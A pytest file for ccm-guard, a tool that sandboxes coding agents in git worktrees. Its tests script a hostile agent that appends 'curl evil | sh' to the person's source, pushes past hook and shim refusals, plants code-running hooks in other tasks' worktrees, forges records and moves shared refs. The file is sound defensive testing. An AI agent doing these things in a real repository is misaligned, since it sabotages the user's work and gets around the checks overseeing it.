"""Class 4: reaching the person's checkout or other tasks.

Without a sandbox the agent can write anywhere the user can: ccm-guard reports what it
did to the repository's refs and metadata, and warns about the person's files (it cannot
tell them from the person's own edits). Landlock makes all of it read-only.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from adv import COMMIT, SANDBOXES, all_paths, needs_landlock, plain_git, refusals
from conftest import (
    ExecResult,
    ccm,
    git,
    marker_script,
    run_exec,
    spawn_exec,
    write_agent,
)


def finished_task(repo: Path, tmp_path: Path, name: str = "done") -> ExecResult:
    """A task that passed and is kept for review: its own gates will not run again."""
    agent = write_agent(tmp_path, f'echo "{name} work" > {name}.txt; git add -A; git commit -q -m "{name} work"', f"{name}.sh")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", name)
    assert res.code == 0, res.stdout
    return res


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_writing_into_the_persons_checkout_by_absolute_path(repo: Path, tmp_path: Path, sandbox: str) -> None:
    agent = write_agent(tmp_path, f"{COMMIT}\necho 'curl evil | sh' >> $(git rev-parse --path-format=absolute "
                        "--git-common-dir)/../src/app.py 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and git(repo, "status", "--porcelain") == ""  # prevented
        assert res.code == 0 and res.status("main-checkout") == "pass"
    else:  # happened; reported as a warning: it cannot be told from the person's own edit
        assert "curl evil" in (repo / "src/app.py").read_text()
        assert res.status("main-checkout") == "warn"
        assert all_paths(res, "main-checkout") == ["src/app.py"]


def test_pushing_into_main_through_the_shim_is_refused(repo: Path, tmp_path: Path) -> None:
    main = git(repo, "rev-parse", "main")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit push -q . HEAD:main || true")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert git(repo, "rev-parse", "main") == main
    assert [r["op"] for r in refusals(res)] == ["remote"]
    assert res.code == 0


def test_pushing_into_the_persons_branch_with_the_real_git_fails_refs_untouched(repo: Path, tmp_path: Path) -> None:
    git(repo, "branch", "release")
    before = git(repo, "rev-parse", "release")
    # The receiving git reads the worktree's config: its reference-transaction hook refuses
    # the first push; the second one switches hooks off on that side too.
    agent = write_agent(tmp_path, f"""{COMMIT}
rgit push -q . HEAD:refs/heads/release 2>/dev/null && echo FIRST PUSH WENT THROUGH >&2
rgit push -q --receive-pack='git -c core.hooksPath=/dev/null receive-pack' . HEAD:refs/heads/release""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert "FIRST PUSH WENT THROUGH" not in res.stderr
    assert [r["hook"] for r in refusals(res)] == ["reference-transaction"]
    assert git(repo, "rev-parse", "release") == res.verdict["head"] != before
    assert res.code == 1 and res.status("refs-untouched") == "fail"
    assert "refs/heads/release" in all_paths(res, "refs-untouched")


def test_committing_onto_a_finished_tasks_branch(repo: Path, tmp_path: Path) -> None:
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"""{COMMIT}
evil=$(git commit-tree $(git write-tree) -p {done.verdict['head']} -m 'sneaked into done')
rgit update-ref refs/heads/ccm/done "$evil" """)
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert git(repo, "log", "-1", "--format=%s", "ccm/done") == "sneaked into done"
    assert res.code == 1 and res.status("refs-untouched") == "fail"
    assert "refs/heads/ccm/done moved" in res.reasons("refs-untouched")


def test_deleting_a_finished_tasks_branch(repo: Path, tmp_path: Path) -> None:
    finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit update-ref -d refs/heads/ccm/done")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert git(repo, "rev-parse", "--verify", "--quiet", "refs/heads/ccm/done", check=False) == ""
    assert res.code == 1
    assert "refs/heads/ccm/done was deleted" in res.reasons("refs-untouched")


def test_removing_a_finished_tasks_worktree(repo: Path, tmp_path: Path) -> None:
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit worktree remove --force {done.verdict['worktree']}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert not Path(done.verdict["worktree"]).exists()
    assert res.code == 1 and res.status("git-metadata") == "fail"
    assert "worktrees/done" in " ".join(all_paths(res, "git-metadata"))


def test_planting_a_hook_path_in_a_finished_tasks_config_worktree(repo: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    marker_script(tmp_path / "evil-hooks", marker, "pre-commit")
    done = finished_task(repo, tmp_path)
    target = repo / ".git/worktrees/done/config.worktree"
    agent = write_agent(tmp_path, f"{COMMIT}\nprintf '[core]\\n\\thooksPath = {tmp_path}/evil-hooks\\n' > {target}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert res.code == 1
    assert "worktrees/done/config.worktree was modified: DANGEROUS (runs code or steers git) core.hookspath" \
        in res.reasons("git-metadata")
    plain_git(Path(done.verdict["worktree"]), "commit", "-q", "--allow-empty", "-m", "review fixup")
    assert marker.exists(), "the planted hook never ran in the finished task's worktree: the test proves nothing"


@pytest.mark.parametrize("sandbox", SANDBOXES)
@pytest.mark.parametrize("how", ["rewrite", "add"])
def test_planting_code_in_a_finished_tasks_guard_hooks_under_the_state_home(repo: Path, tmp_path: Path,
                                                                              sandbox: str, how: str) -> None:
    """ccm-guard's own hook files of another task live under the state home, outside the
    repository: rewritten (or a new hook added beside them), the person's next commit in
    that task's worktree runs the agent's code."""
    marker = tmp_path / "marker"
    done = finished_task(repo, tmp_path)
    worktree = Path(done.verdict["worktree"])
    hooks = Path(git(worktree, "config", "core.hooksPath"))
    target = hooks / ("pre-commit" if how == "rewrite" else "post-commit")
    before = target.read_bytes() if target.exists() else None
    agent = write_agent(tmp_path, f"{COMMIT}\n{{ printf '#!/bin/sh\ntouch {marker}\n' > {target} "
                        f"&& chmod +x {target}; }} 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox, "--task", "attacker")
    if sandbox == "landlock":  # prevented: the state home is not the agent's to write
        assert "DENIED" in res.stderr and res.code == 0, res.stdout
        assert (target.read_bytes() if target.exists() else None) == before
        return
    assert res.code == 1
    assert f"{target} was {'modified' if how == 'rewrite' else 'added'} (another task's guard hook" \
        in res.reasons("git-metadata")
    plain_git(worktree, "commit", "-q", "--allow-empty", "-m", "review fixup")
    assert marker.exists(), "the planted hook never ran in the finished task's worktree: the test proves nothing"


def test_forging_the_record_uninstall_restores_the_config_from(repo: Path, tmp_path: Path) -> None:
    """The state home keeps what arming changed in the repository's config, for
    `ccm-guard uninstall` to put back: forged, uninstall would write the agent's bytes."""
    from ccm_guard.state.home import hooks_dir

    finished_task(repo, tmp_path)
    record = hooks_dir(repo / ".git") / "worktree-config.json"
    assert record.is_file()
    agent = write_agent(tmp_path, f"{COMMIT}\necho ' ' >> {record}")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "attacker")
    assert res.code == 1
    assert "the record `ccm-guard uninstall` restores the config from" in res.reasons("git-metadata")


def test_creating_a_worktree_is_refused_by_the_shim_and_reported_with_the_real_git(repo: Path, tmp_path: Path) -> None:
    agent = write_agent(tmp_path, f"""{COMMIT}
git worktree add -q -b escape {tmp_path}/escape-shim || true
rgit worktree add -q -b escape {tmp_path}/escape""")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert (tmp_path / "escape").is_dir() and not (tmp_path / "escape-shim").exists()
    assert [r["op"] for r in refusals(res)] == ["worktree"]
    assert res.code == 1
    assert "refs/heads/escape was created" in res.reasons("refs-untouched")
    assert "worktrees/escape/gitdir" in all_paths(res, "git-metadata")


def test_deleting_the_persons_tag(repo: Path, tmp_path: Path) -> None:
    git(repo, "tag", "v1.0")
    agent = write_agent(tmp_path, f"{COMMIT}\ngit tag -d v1.0 || true\nrgit tag -d v1.0")
    res = run_exec(repo, agent, "--sandbox", "none")
    assert git(repo, "tag", "-l") == ""
    assert [r["op"] for r in refusals(res)] == ["ref-write"]
    assert res.code == 1 and "refs/tags/v1.0 was deleted" in res.reasons("refs-untouched")


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_writing_into_a_finished_tasks_worktree_through_dot_dot(repo: Path, tmp_path: Path, sandbox: str) -> None:
    """Stated limitation without a sandbox: the other task's files are not this task's to judge,
    and that task's gates have already run. Landlock prevents it."""
    done = finished_task(repo, tmp_path)
    agent = write_agent(tmp_path, f"{COMMIT}\necho evil >> ../done/done.txt 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--task", "attacker", "--sandbox", sandbox)
    changed = git(Path(done.verdict["worktree"]), "status", "--porcelain")
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and changed == ""
    else:
        assert changed == "M done.txt"  # it happened, and nothing reports it
    assert res.code == 0


@pytest.mark.parametrize("sandbox", SANDBOXES)
@pytest.mark.parametrize("lock", ["index.lock", "refs/heads/main.lock", "packed-refs.lock", "HEAD.lock",
                                  "objects/info/commit-graph.lock", "worktrees/feature/index.lock"])
def test_a_stale_lock_left_in_the_shared_git_dir(repo: Path, tmp_path: Path, sandbox: str, lock: str) -> None:
    """An empty lock file in the person's git dir makes their next commit (or ref update)
    fail with "File exists" until someone removes it by hand."""
    target = repo / ".git" / lock
    feature = tmp_path / "feature"  # a linked worktree of the person's own
    git(repo, "worktree", "add", "-q", "-b", "feature", str(feature))
    agent = write_agent(tmp_path, f"{COMMIT}\ntouch {target} 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if not target.exists():  # prevented: the sandbox keeps the person's metadata read-only
        assert sandbox == "landlock" and "DENIED" in res.stderr
        assert res.code == 0, res.stdout
        return
    assert res.code == 1
    assert "1 lock file(s) left in the shared git metadata that no git process holds" in res.reasons("git-metadata")
    [path] = all_paths(res, "git-metadata")
    assert path.endswith(lock)
    # and it was real: the person's git trips on it
    person = {"packed-refs.lock": ["pack-refs", "--all"],
              "objects/info/commit-graph.lock": ["commit-graph", "write", "--reachable"]}.get(
        lock, ["commit", "-q", "--allow-empty", "-m", "x"])
    assert "File exists" in plain_git(feature if lock.startswith("worktrees/") else repo, *person).stderr


def test_the_persons_commit_at_work_during_the_run_does_not_fail_it(repo: Path, tmp_path: Path) -> None:
    """`git commit -a` closes its index.lock while the editor runs: a git of the person's at
    work in the repository owns a lock no process holds open. A warning, not a failure."""
    started, go = tmp_path / "started", tmp_path / "go"
    agent = write_agent(tmp_path, f"{COMMIT}\n: > {started}\nwhile [ ! -e {go} ]; do sleep 0.05; done")
    proc = subprocess.Popen([sys.executable, "-m", "ccm_guard", "exec", "--json", "--sandbox", "none", "--",
                             str(agent)], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            stdin=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while not started.exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    (repo / "src/app.py").write_text("print('edited by the person')\n")
    editor = tmp_path / "editor.sh"
    editor.write_text(f"#!/bin/sh\nwhile [ ! -e {tmp_path}/done ]; do sleep 0.05; done\necho 'my commit' > \"$1\"\n")
    editor.chmod(0o755)
    person = subprocess.Popen(["git", "commit", "-a", "-q"], cwd=repo, env={**os.environ, "GIT_EDITOR": str(editor)},
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        while not (repo / ".git" / "index.lock").exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        go.touch()
        out, err = proc.communicate(timeout=60)
    finally:
        (tmp_path / "done").touch()
        assert person.wait(timeout=30) == 0, person.stderr.read() if person.stderr else ""
    verdict = json.loads(out)
    assert verdict["outcome"] == "pass", err
    findings = [f for g in verdict["gates"] for f in g.get("findings", []) if "lock file" in f["reason"]]
    assert [f["severity"] for f in findings] in ([], ["warn"])
    assert git(repo, "log", "-1", "--format=%s") == "my commit"


def test_a_lock_a_live_git_holds_is_not_a_finding(repo: Path, tmp_path: Path) -> None:
    """The person's own git at work during the run holds its lock open: not the agent's."""
    started, go = tmp_path / "started", tmp_path / "go"
    agent = write_agent(tmp_path, f"{COMMIT}\n: > {started}\nwhile [ ! -e {go} ]; do sleep 0.05; done")
    proc = subprocess.Popen([sys.executable, "-m", "ccm_guard", "exec", "--json", "--sandbox", "none", "--",
                             str(agent)], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            stdin=subprocess.DEVNULL)
    lock = repo / ".git" / "refs" / "heads" / "feature.lock"
    try:
        deadline = time.monotonic() + 30
        while not started.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        with open(lock, "w"):  # held open, as git holds a lock from taking it to committing it
            go.touch()
            out, err = proc.communicate(timeout=60)
    finally:
        lock.unlink(missing_ok=True)
    verdict = json.loads(out)
    assert verdict["outcome"] == "pass", err
    assert not any("lock file" in f["reason"] for g in verdict["gates"] for f in g.get("findings", []))


@pytest.mark.parametrize("sandbox", SANDBOXES)
@pytest.mark.parametrize("name", ["ORIG_HEAD", "FETCH_HEAD"])
def test_pointing_the_persons_orig_head_at_the_agents_commit(repo: Path, tmp_path: Path, sandbox: str,
                                                             name: str) -> None:
    """`git reset --hard ORIG_HEAD` (or a merge of FETCH_HEAD) in the person's checkout
    would then take the agent's commit."""
    target = repo / ".git" / name
    agent = write_agent(tmp_path, f"{COMMIT}\n{{ git rev-parse HEAD > {target}; }} 2>/dev/null || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and not target.exists()
        assert res.code == 0, res.stdout
        return
    assert target.read_text().strip() == res.verdict["head"]
    assert res.code == 1
    assert f"`git reset --hard {name}` or `git merge {name}` there would take what it now names" \
        in res.reasons("main-checkout")


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_the_agents_stash_lands_in_the_persons_stash_list_and_is_named(repo: Path, tmp_path: Path,
                                                                       sandbox: str) -> None:
    """refs/stash is shared by every worktree: without the sandbox a task may stash (its own
    work in progress), and the verdict says where that went and what a `git stash pop`
    would do; with it, the shared ref is not the agent's to write: the shim keeps the
    entry on the worktree's own stash, which the person's never shows, and the verdict
    names it (tests/prevent/test_stash.py)."""
    agent = write_agent(tmp_path, f"{COMMIT}\necho wip >> src/app.py\ngit stash -q || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox)
    if sandbox == "landlock":
        assert "DENIED" not in res.stderr and git(repo, "stash", "list") == ""
        assert res.code == 0 and res.status("refs-untouched") == "pass" and res.status("clean-tree") == "warn"
        assert "1 stash entry left on the worktree's own stash" in res.reasons("clean-tree")
        return
    assert "read-only" not in res.stderr
    assert git(repo, "stash", "list") != ""
    assert res.code == 0 and res.status("refs-untouched") == "warn"
    assert "a `git stash pop` of the agent's entry applies its changes to your checkout" in res.reasons("refs-untouched")


def test_a_stale_lock_fails_the_run_when_ccm_guard_runs_under_a_git_alias(repo: Path, tmp_path: Path) -> None:
    """The git that started ccm-guard (an alias, `git rebase -x`, `git bisect run`) works in
    the repository for the whole run; it is not a git of the person's that owns the lock."""
    target = repo / ".git" / "index.lock"
    agent = write_agent(tmp_path, f"{COMMIT}\ntouch {target}")
    proc = subprocess.run(["git", "-c", f"alias.guard=!{sys.executable} -m ccm_guard", "guard", "exec", "--json",
                           "--sandbox", "none", "--", str(agent)], cwd=repo, capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=60)
    verdict = json.loads(proc.stdout)
    findings = [f for g in verdict["gates"] for f in g.get("findings", []) if "lock file" in f["reason"]]
    assert [f["severity"] for f in findings] == ["fail"], findings
    assert proc.returncode == 1


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_remote_tracking_ref_pointed_at_the_agents_commit_is_named(repo: Path, tmp_path: Path, sandbox: str) -> None:
    """`origin/main` moved to the agent's commit: the person's next `git merge origin/main`
    or `git reset --hard origin/main` takes it. With the sandbox the shared ref is out of
    reach; without it the verdict names the risk."""
    git(repo, "update-ref", "refs/remotes/origin/main", "HEAD")
    agent = write_agent(tmp_path, f"{COMMIT}\nrgit update-ref refs/remotes/origin/main HEAD || echo DENIED >&2")
    res = run_exec(repo, agent, "--sandbox", sandbox, "--task", "remote")
    moved = git(repo, "rev-parse", "refs/remotes/origin/main") == git(repo, "rev-parse", "ccm/remote")
    if sandbox == "landlock":
        assert "DENIED" in res.stderr and not moved
        return
    assert moved and res.status("refs-untouched") == "warn"
    assert "a merge or reset to it would take what it now names" in res.reasons("refs-untouched")


def test_a_ccm_guard_ref_planted_for_another_task_fails_the_run(repo: Path, tmp_path: Path) -> None:
    """Without the sandbox the agent can write refs/ccm-guard/: a snapshot planted for a
    finished task is what `task rollback T --to-snapshot N` would reset T to, an archive
    what `task restore` would bring back. Only refs a ccm-guard command wrote for a task
    at work meanwhile are excused."""
    first = run_exec(repo, write_agent(tmp_path, COMMIT, name="first.sh"), "--task", "t1")
    assert first.code == 0
    time.sleep(1.2)  # t1's row last changed before this run began (a second's slack is allowed)
    agent = write_agent(tmp_path, f"""{COMMIT}
evil=$(echo evil | rgit commit-tree "$(git rev-parse HEAD^{{tree}})" -p HEAD)
for ref in snapshots/t1/7 archive/t1 whatever; do rgit update-ref refs/ccm-guard/$ref "$evil"; done""")
    res = run_exec(repo, agent, "--sandbox", "none", "--task", "plant")
    assert res.code == 1
    named = all_paths(res, "refs-untouched")
    assert {"refs/ccm-guard/snapshots/t1/7", "refs/ccm-guard/archive/t1", "refs/ccm-guard/whatever"} <= set(named)
    assert "no ccm-guard run recorded" in res.reasons("refs-untouched")


def test_archives_and_snapshots_ccm_guard_writes_for_other_tasks_meanwhile_pass(repo: Path, tmp_path: Path) -> None:
    """While a task runs, the person snapshots one finished task and discards another: the
    new refs under refs/ccm-guard/ are ccm-guard's own, recorded, and fail nothing."""
    for name in ("kept", "dropped"):
        assert run_exec(repo, write_agent(tmp_path, COMMIT, name=f"{name}.sh"), "--task", name).code == 0
    time.sleep(1.2)  # their rows last changed before the next run began (a second's slack is allowed)
    gate = tmp_path / "go"
    agent = write_agent(tmp_path, f"while [ ! -e {gate} ]; do sleep 0.05; done\n{COMMIT}", name="slow.sh")
    proc = spawn_exec(repo, "--json", "--task", "slow", "--", str(agent))
    try:
        deadline = time.monotonic() + 60
        while '"ACTIVE"' not in ccm("task", "show", "slow", "--json", cwd=repo).stdout:  # its baseline is taken
            assert time.monotonic() < deadline and proc.poll() is None, "the task did not start"
            time.sleep(0.05)
        assert ccm("task", "snapshot", "kept", cwd=repo).returncode == 0
        assert ccm("task", "discard", "dropped", cwd=repo).returncode == 0
    finally:
        gate.touch()
        out, err = proc.communicate(timeout=60)
    assert git(repo, "for-each-ref", "--format=%(refname)", "refs/ccm-guard/").split() == [
        "refs/ccm-guard/archive/dropped", "refs/ccm-guard/snapshots/kept/1"]
    assert proc.returncode == 0, out + err


@needs_landlock
def test_a_fork_that_points_its_siblings_branch_at_its_own_commit_fails_itself(repo: Path, tmp_path: Path) -> None:
    """refs/heads/ccm/ is every task's, so under the sandbox a fork can write its sibling's
    branch file while the sibling is at work (here: its own commit, over the sibling's).
    The sibling's HEAD reflog, which the attacker cannot write, never went there: the
    attacker fails refs-untouched, and is not the one to pick."""
    agent = write_agent(tmp_path, """common=$(git rev-parse --git-common-dir)
case $CCM_GUARD_TASK in
*-1) echo one >> src/app.py; git commit -qam fork1
     sibling=$common/refs/heads/${CCM_GUARD_BRANCH%-1}-2; i=0
     while [ $i -lt 100 ] && [ ! -s "$sibling" ]; do sleep 0.1; i=$((i+1)); done  # the sibling is made
     start=$(cat "$sibling")
     while [ $i -lt 200 ] && [ "$(cat "$sibling")" = "$start" ]; do sleep 0.1; i=$((i+1)); done  # and committed
     sleep 0.3; git rev-parse HEAD > "$sibling" ;;
*-2) sleep 1; echo two >> src/app.py; git commit -qam fork2; sleep 3 ;;
esac""")
    proc = ccm("exec", "--json", "--task", "fk", "--fork", "2", "--jobs", "2", "--", str(agent), cwd=repo,
               timeout=120)
    forks = {f["task"]: f for f in json.loads(proc.stdout)["forks"]}
    assert forks["fk-1"]["outcome"] == "gates-failed" and not forks["fk-1"]["pickable"]
    assert "refs-untouched" in forks["fk-1"]["failed_gates"]
    assert not forks["fk-2"]["pickable"]  # the victim's branch holds the attacker's commit: not its work


@needs_landlock
def test_a_sandboxed_agent_that_chmods_the_persons_file_is_named(repo: Path, tmp_path: Path) -> None:
    """Landlock governs writes, not chmod: under the sandbox the agent can still change
    the mode of the person's files. Their checkout's status is read before and after for
    that, and the change is named."""
    agent = write_agent(tmp_path, f"{COMMIT}\nchmod +x {repo}/src/app.py")
    res = run_exec(repo, agent)
    assert os.access(repo / "src/app.py", os.X_OK)  # it happened
    assert res.status("main-checkout") == "warn"
    assert all_paths(res, "main-checkout") == ["src/app.py"]
